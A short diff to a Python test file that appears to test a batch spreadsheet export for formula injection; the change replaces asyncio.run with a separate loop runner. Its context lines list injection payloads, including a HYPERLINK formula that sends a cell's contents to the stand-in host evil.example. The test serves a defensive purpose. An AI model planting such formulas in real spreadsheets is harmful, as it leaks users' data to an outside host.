@@ -4,7 +4,6 @@ batch creates is its owner's only whatever the umask (SECURITY.md "Spreadsheets"
 
 from __future__ import annotations
 
-import asyncio
 import csv
 import os
 import stat
@@ -16,6 +15,7 @@ import pytest
 from openpyxl import load_workbook
 
 from agent.batch.run import BatchOptions, BatchResult, run_batch_with
+from agent.runner.sync import run
 from tests.security_batch.helpers import PROCEDURE, csv_text, folder_with_files, ok_engine, valid_row
 
 FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"bấm")', "+1+1", "-2+3", "@SUM(1,1)", "＝1+1"]
@@ -42,7 +42,7 @@ def _run(tmp_path: Path) -> tuple[BatchResult, Path]:
     source = folder / "rows.csv"
     source.write_text(csv_text(rows), encoding="utf-8")
     opts = BatchOptions(input_path=source, procedure=PROCEDURE, tty=False, settle_s=0)
-    result = asyncio.run(run_batch_with(opts, ok_engine))
+    result = run(run_batch_with(opts, ok_engine))  # a loop of its own: a browser test may hold one
     return result, opts.out_dir
 
 
